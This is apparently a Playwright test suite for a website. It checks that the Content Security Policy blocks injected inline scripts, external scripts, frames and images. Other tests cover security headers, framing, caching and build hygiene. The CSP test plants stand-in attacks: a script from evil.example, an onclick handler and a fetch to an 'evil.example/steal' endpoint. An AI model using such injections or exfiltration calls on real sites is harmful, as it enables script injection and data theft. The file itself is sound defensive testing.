import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import words from "../lib/content/words.json" with { type: "json" };
import { gallery } from "../lib/gallery";
import { services } from "../lib/services";
import own from "../package.json" with { type: "json" };
import other from "./setup/other-company.json" with { type: "json" };
import { testSites } from "./setup/test-sites";
import { expect, facts, keyless, needsLocalServer, test } from "./test";

/** What is smuggled in below, as the browser names it when it refuses it. */
const everything = [
  "connect-src https://evil.example/steal",
  "frame-src https://evil.example",
  "img-src https://evil.example/x.png",
  "script-src-attr inline",
  "script-src-elem https://evil.example/x.js",
  "script-src-elem inline",
  "style-src-elem inline",
];
/** Every kind of page: the editor alone writes styles of its own. */
const pages = {
  "/": everything,
  "/404.html": everything,
  "/nothing-here": everything,
  "/edit/": everything.filter((one) => !one.startsWith("style")),
};

test.describe("a stranger's page or code", () => {
  test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });

  for (const [address, refused] of Object.entries(pages)) {
    test(`at ${address} does not run, show or call home, and our own styles apply`, async ({
      page,
    }) => {
      // What the editor does by itself, its own stories tell.
      await page.route("/edit/sveltia-cms.js", (route) => route.abort());
      await page.goto(address);
      if (address !== "/edit/")
        await expect(page.locator("body")).toHaveCSS("font-family", /archivo/i);
      await page.evaluate(() => {
        const seen: string[] = [];
        Object.assign(window, { seen });
        addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
          seen.push(`${effectiveDirective} ${blockedURI}`);
        });
        const add = (name: string, properties: object) =>
          document.body.append(Object.assign(document.createElement(name), properties));
        add("script", { textContent: "window.hacked = 'inline'" });
        add("script", { src: "https://evil.example/x.js" });
        add("style", { textContent: "body { display: none }" });
        add("div", { innerHTML: `<i onclick="window.hacked = 'attribute'">press</i>` });
        add("img", { src: "https://evil.example/x.png" });
        add("iframe", { src: "https://evil.example/" });
        fetch("https://evil.example/steal").catch(() => {});
      });
      const seen = () => page.evaluate(() => Reflect.get(window, "seen").sort());
      await expect.poll(seen).toEqual(refused);
      await page.getByText("press").dispatchEvent("click");
      expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    });
  }

  test("shows none of the pages in a frame", async ({ page, baseURL }) => {
    const urls = Object.keys(pages).map((address) => new URL(address, baseURL));
    const body = urls.map((url) => `<iframe src="${url}"></iframe>`).join("");
    // Somebody else's document, without a policy of its own that would stop a frame.
    await page.goto(new URL("/robots.txt", keyless).href);
    await page.evaluate((html) => {
      document.body.innerHTML = html;
    }, body);
    const framed = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
    await expect.poll(framed).toEqual(urls.map(() => "chrome-error://chromewebdata/"));
  });
});

test("what is named by its content is kept for a year, what is not can change with any deploy", async ({
  page,
  request,
}) => {
  await page.goto("/");
  const photo = await page.locator("main source").first().getAttribute("srcset");
  const starter = await page.locator("script[src]").first().getAttribute("src");
  for (const [address, caching] of [
    [photo?.split(" ")[0], /max-age=31536000, immutable/],
    [starter, /max-age=31536000, immutable/],
    [gallery[0]?.file, /^(?!.*immutable)/],
    ["/", /^(?!.*immutable)/],
  ] as const) {
    const headers = (await request.get(address ?? "")).headers();
    expect(headers["cache-control"] ?? "", address ?? "").toMatch(caching);
    expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    expect(headers["permissions-policy"]).toContain("camera=()");
    // The editor's sign-in needs it; the page opens no window.
    expect(headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
  }
  expect((await request.get("/edit/")).headers()["x-robots-tag"]).toBe("noindex");
});

test.describe("the published files", () => {
  test.beforeEach(() => needsLocalServer("they are read from disk"));
  const { keyed, other: others } = testSites;
  const read = (name: string, out = keyed.out) => readFile(path.join(out, name), "utf8");

  test("hold no source map, no path of the machine, and in scripts no more than those need", async () => {
    const names = await readdir(keyed.out, { recursive: true });
    expect(names.filter((name) => /\.map$|(^|\/)\.(env|git)/.test(name))).toEqual([]);
    for (const name of names.filter((one) =>
      /\.(html|js|css|txt|json|xml|webmanifest)$/.test(one),
    )) {
      const content = await read(name);
      expect(content, name).not.toContain("sourceMappingURL");
      expect(content, name).not.toContain(process.cwd());
      if (!name.startsWith("_next/static/chunks")) continue;
      expect(content, name).not.toMatch(/ZodError|safeParse/);
      for (const { text } of [words.share, ...services]) expect(content, name).not.toContain(text);
      for (const { alt } of gallery) expect(content, name).not.toContain(alt);
    }
  });

  test("of another company say nothing of this one, and their share picture is another", async () => {
    const { name, phone, email, city, state, area, social } = facts;
    const texts = [name, phone, email, city, state, area, ...social.map(({ url }) => url)];
    // An owner may have a fact in common with the other company.
    const telling = texts.filter((fact) => !JSON.stringify(other).includes(fact));
    for (const file of ["index.html", "404.html", "manifest.webmanifest"]) {
      const text = await read(file, others.out);
      expect(
        telling.filter((fact) => text.includes(fact)),
        file,
      ).toEqual([]);
    }
    expect(await read("share.jpg", others.out)).not.toBe(await read("share.jpg"));
  });

  test("name the licenses of all that is shipped", async () => {
    const text = await read("licenses.txt");
    const shipped = Object.entries(own.dependencies).map((one) => one.join(" "));
    // Brought along by framer-motion and react-dom; and the typeface.
    for (const name of [...shipped, "motion-dom", "scheduler", "SIL OPEN FONT LICENSE"])
      expect(text).toContain(name);
  });
});
